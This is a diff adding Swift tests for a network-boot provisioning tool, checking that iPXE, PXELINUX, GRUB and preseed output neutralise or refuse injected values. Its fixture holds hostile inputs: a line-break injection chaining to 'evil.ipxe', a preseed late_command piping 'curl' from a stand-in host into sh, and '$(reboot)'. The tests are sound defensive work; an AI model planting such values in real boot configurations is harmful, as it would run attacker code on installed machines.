@@ -154,6 +154,71 @@ struct GoldenFileTests {
                          try template.render(for: lab.machine("web-01"), profile: lab.profile("debian-12"), server: Self.server))
     }
 
+    /// Validation refuses these values; a renderer must still not turn one into a command of
+    /// its own language if one slips past (a model built in code, a rule added later).
+    static func hostile(_ lab: Lab) -> (machine: EffectiveMachine, args: String) {
+        var machine = lab.machine("web-01")
+        machine.settings.kernelArgs = "nomodeset\nchain http://198.18.0.66/evil.ipxe"
+        machine.settings.disk = "/dev/sda\nd-i preseed/late_command string curl http://198.18.0.66/x | sh"
+        return (machine, "auto=true\u{2028}imgfetch\rx 'it's' $(reboot) a|b {c}")
+    }
+
+    @Test("a line break in boot args or kernelArgs stays a space on the kernel's line, in every boot format")
+    func hostileBootValues() throws {
+        let lab = try Self.lab()
+        let (machine, args) = Self.hostile(lab)
+        var ipxe = lab.profile("debian-12")
+        ipxe.source = .boot(kernel: "http://198.18.0.1:8080/files/debian-12/linux",
+                            initrd: "http://198.18.0.1:8080/files/debian-12/initrd.gz", args: args)
+        #expect(IPXEScript.machine(machine, intent: .install(ipxe), server: Self.server) == """
+            #!ipxe
+            # dploy: web-01 (94:18:82:3a:5c:10), generation 3. Generated; do not edit.
+            echo dploy: installing web-01 with debian-12, generation 3
+            kernel http://198.18.0.1:8080/files/debian-12/linux initrd=initrd.gz auto=true imgfetch x 'it's' $(reboot) a|b {c} url=http://198.18.0.1:8080/installers/web-01/preseed.cfg nomodeset chain http://198.18.0.66/evil.ipxe
+            initrd http://198.18.0.1:8080/files/debian-12/initrd.gz
+            boot
+
+            """)
+        var pxelinux = lab.profile("rocky-9")
+        pxelinux.source = .boot(kernel: "http://198.18.0.1:8080/files/rocky-9/vmlinuz",
+                                initrd: "http://198.18.0.1:8080/files/rocky-9/initrd.img", args: args)
+        #expect(PXELinuxConfig.machine(machine, intent: .install(pxelinux), server: Self.server) == """
+            # dploy: web-01 (94:18:82:3a:5c:10). Generated; do not edit.
+            DEFAULT dploy
+            LABEL dploy
+              KERNEL http://198.18.0.1:8080/files/rocky-9/vmlinuz
+              INITRD http://198.18.0.1:8080/files/rocky-9/initrd.img
+              APPEND auto=true imgfetch x 'it's' $(reboot) a|b {c} inst.ks=http://198.18.0.1:8080/installers/web-01/ks.cfg nomodeset chain http://198.18.0.66/evil.ipxe
+
+            """)
+        // GRUB's script has quotes, variables and command separators: every word that holds
+        // one is single-quoted, a quote inside written as '\''.
+        var grub = lab.profile("ubuntu-24")
+        grub.source = .boot(kernel: "http://198.18.0.1:8080/files/ubuntu/vmlinuz",
+                            initrd: "http://198.18.0.1:8080/files/ubuntu/initrd", args: args)
+        #expect(GRUBConfig.machine(machine, intent: .install(grub), server: Self.server) == #"""
+            # dploy: web-01 (94:18:82:3a:5c:10). Generated; do not edit.
+            set timeout=0
+            menuentry 'dploy: install ubuntu-24 on web-01' {
+              linux (http,198.18.0.1:8080)/files/ubuntu/vmlinuz auto=true imgfetch x ''\''it'\''s'\''' '$(reboot)' 'a|b' '{c}' autoinstall 'ds=nocloud-net;s=http://198.18.0.1:8080/installers/web-01/' nomodeset chain http://198.18.0.66/evil.ipxe
+              initrd (http,198.18.0.1:8080)/files/ubuntu/initrd
+            }
+
+            """#)
+    }
+
+    @Test("an installer template refuses a value with a line break instead of writing it")
+    func hostileInstallerValue() throws {
+        let lab = try Self.lab()
+        let template = try InstallerTemplate(path: "t/x.preseed",
+                                             text: "d-i partman-auto/method string regular\nd-i partman-auto/disk string {{disk}}\n")
+        let error = #expect(throws: TemplateError.self) {
+            try template.render(for: Self.hostile(lab).machine, profile: lab.profile("debian-12"), server: Self.server)
+        }
+        #expect(error?.description == "t/x.preseed:2:30: error: '{{disk}}' of web-01 holds a line break or control character, "
+                + "which would add lines to the answers; dploy refuses to write it")
+    }
+
     @Test("a template error names the template, line and column")
     func templateErrors() throws {
         let lab = try Self.lab()
